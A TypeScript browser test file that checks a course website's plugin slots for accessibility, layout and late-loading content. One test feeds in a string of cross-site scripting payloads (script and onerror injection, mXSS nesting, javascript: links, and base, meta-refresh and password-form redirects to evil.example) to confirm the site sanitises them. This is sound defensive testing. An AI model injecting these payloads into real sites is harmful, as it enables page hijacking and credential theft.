import assert from "node:assert/strict";
import { browserTest, findOverflow, judgeAccess, type Visit, type Visitors } from "core/testing/browser.ts";
import type { Plugin } from "core/plugin/plugin.ts";
import { buildIslands } from "edge/build.ts";
import { PLUGINS } from "edge/plugins.ts";
import { BELLS, openSampleSite, PEOPLE, type SampleSite } from "edge/samples/sample_site.ts";
import { SLOTS } from "edge/slots.ts";
import { samplePlugin } from "edge/slots/sample_widgets.ts";

const bells = encodeURIComponent(BELLS);
const unit = `/learn/${bells}/${encodeURIComponent("vertical@bell_metal")}`;

/** Pages with slots: for anybody, for a learner, for an operator. */
const PAGES = {
  visitor: [
    "/courses",
    "/courses?q=nothing+like+it",
    `/courses/${bells}`,
    "/sign-in",
    "/register",
    "/help",
    "/no/page",
  ],
  learner: ["/learn", `/learn/${bells}`, `/progress/${bells}`, unit, "/settings", "/settings/erasure"],
  operator: ["/admin/signals", "/admin/plugins", "/developers/signals"],
} as const;

/** A plugin that fills every slot there is. */
function everywhere(id: string, place: "before" | "after"): Plugin {
  return samplePlugin(
    id,
    Object.fromEntries(
      Object.keys(SLOTS).map((slot) => [slot, {
        place,
        draw: ({ courseId = "", blockId = "", sectionId = "" }) =>
          `<section class="panel"><h2 id="t">${place} ${slot} ${courseId} ${blockId} ${sectionId}</h2>
           <p class="muted" aria-labelledby="t">A word, <a href="/help">a link</a></p></section>`,
      }]),
    ),
  );
}

/** What somebody who wants to own the page would write. */
const HOSTILE = `<script>document.title = "owned"</script><img src=x onerror='document.title="owned"'>
<svg><script>document.title = "owned"</script><style>main { display: none }</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror='document.title="owned"'></style></mglyph></table></mtext></math>
<a href="javascript:document.title='owned'" id="main">Here</a><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
<form action="https://evil.example/"><input name="password" type="password" autofocus></form>
<div style="position:fixed;inset:0;z-index:9999">Over it all</div></div></div></main></body></html>
<noscript><p title="</noscript><img src=x onerror='document.title=1'>"></noscript><textarea><select><table><p title="`;

const hostile = samplePlugin(
  "hostile",
  Object.fromEntries(Object.keys(SLOTS).map((slot) => [slot, { place: "before", draw: () => HOSTILE }])),
);

/** A site with plugins that browsers can reach. */
async function serve(plugins: readonly Plugin[]) {
  await buildIslands();
  const site = await openSampleSite({ plugins: [...PLUGINS, ...plugins] });
  const server = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen: () => {} },
    (request) => site.app(request),
  );
  const address = `http://127.0.0.1:${server.addr.port}`;
  return {
    site,
    address,
    async [Symbol.asyncDispose]() {
      await server.shutdown();
      await site[Symbol.asyncDispose]();
    },
  };
}

async function visitAs(
  browser: Visitors,
  { site, address }: { readonly site: SampleSite; readonly address: string },
  who: keyof typeof PAGES,
  visit: Visit,
) {
  const visitor = await browser.visit(visit);
  if (who === "visitor") return visitor;
  const client = await site.as(who satisfies keyof typeof PEOPLE);
  if (who === "learner") await client.post(`/courses/${bells}/enrollment`, {});
  const cookies = client.cookies.split("; ").map((pair) => {
    const at = pair.indexOf("=");
    return { name: pair.slice(0, at), value: pair.slice(at + 1), url: address };
  });
  await visitor.context.addCookies(cookies);
  return visitor;
}

const LOOKS = [
  { size: "phone", scheme: "light", locale: "ar" },
  { size: "desktop", scheme: "dark", locale: "en" },
] as const satisfies readonly Visit[];

for (const look of LOOKS) {
  browserTest(
    `pages with every slot filled are accessible: ${look.size}, ${look.locale}`,
    async (browser, t) => {
      await using served = await serve([everywhere("first", "before"), everywhere("last", "after")]);
      for (const who of ["visitor", "learner", "operator"] as const) {
        const { page } = await visitAs(browser, served, who, look);
        for (const path of PAGES[who]) {
          await t.step(`${who} ${path}`, async () => {
            await page.goto(served.address + path);
            assert.ok(await page.locator(".widget").count() > 6);
            assert.deepEqual(await judgeAccess(page), []);
            assert.equal(await findOverflow(page), undefined);
          });
        }
      }
    },
  );
}

browserTest(
  "a hostile plugin in every slot owns nothing: the page stands and says what it always says",
  async (browser, t) => {
    await using served = await serve([hostile]);
    for (const who of ["visitor", "learner", "operator"] as const) {
      const { page } = await visitAs(browser, served, who, {});
      await page.route(/^https:\/\/evil\.example/, () => assert.fail("it was asked for"));
      for (const path of PAGES[who]) {
        await t.step(`${who} ${path}`, async () => {
          await page.goto(served.address + path);
          assert.doesNotMatch(await page.title(), /owned|^1$/);
          assert.ok(page.url().startsWith(served.address));
          assert.equal(await page.locator("main#main").count(), 1);
          assert.equal(await page.locator("footer.foot").count(), 1);
          assert.ok(await page.locator("main h1").first().isVisible());
          assert.equal(
            await page.locator("iframe, base, main meta, [style], [type=password]:not([id])")
              .count(),
            0,
          );
        });
      }
    }
  },
);

for (const script of [true, false]) {
  const where = script ? "moves to its place" : "is read at the page's end where its script cannot be had";
  browserTest(`what comes late ${where}`, async (browser) => {
    const gate = Promise.withResolvers<void>();
    const late = samplePlugin("late", {
      "course.about.v1": { draw: () => gate.promise.then(() => "<p>Worth the wait</p>") },
    }, { budgets: { widgetMilliseconds: 2_000 } });
    await using served = await serve([late]);
    const { page } = await browser.visit();
    if (!script) await page.route("**/late.js", (route) => route.abort());
    const going = page.goto(`${served.address}/courses/${bells}`);
    await page.locator("footer.foot").waitFor();
    assert.equal(await page.getByText("Worth the wait").count(), 0);
    gate.resolve();
    await going;
    const text = page.getByText("Worth the wait");
    assert.ok(await text.isVisible());
    assert.equal(await page.locator("main").getByText("Worth the wait").count(), script ? 1 : 0);
    if (script) assert.equal(await page.locator(".late-widgets").isVisible(), false);
    assert.deepEqual(await judgeAccess(page), []);
  });
}
